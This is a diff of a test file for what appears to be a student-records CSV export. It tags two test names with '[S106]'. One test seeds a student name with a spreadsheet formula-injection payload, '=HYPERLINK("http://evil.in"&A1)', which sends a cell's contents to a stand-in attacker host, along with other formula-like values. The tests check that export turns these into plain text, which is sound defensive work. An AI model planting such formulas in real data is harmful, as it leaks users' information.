@@ -90,14 +90,14 @@ test('a student may not export', async ({ academy }) => {
   expect(statusCode).toBe(403)
 })
 
-test('quotes, commas and line breaks stay inside their cell', async ({ academy }) => {
+test('quotes, commas and line breaks stay inside their cell [S106]', async ({ academy }) => {
   await academy.aStudent({ first_name: 'A "B", C', notes: 'one\ntwo\rthree' })
 
   const { body } = await exported(academy, '?columns=first_name,notes')
   expect(body).toBe('\uFEFFFirst Name,Notes\r\n"A ""B"", C","one\ntwo\rthree"\r\n')
 })
 
-test('what a spreadsheet would run as a formula is text', async ({ academy }) => {
+test('what a spreadsheet would run as a formula is text [S106]', async ({ academy }) => {
   const { profile } = await academy.aStudent({ first_name: '=HYPERLINK("http://evil.in"&A1)' })
   const { call } = await academy.signInAdmin()
   const body = { student_id: profile.student_id, last_name: '@SUM(1)', notes: '-2+3\n=1' }
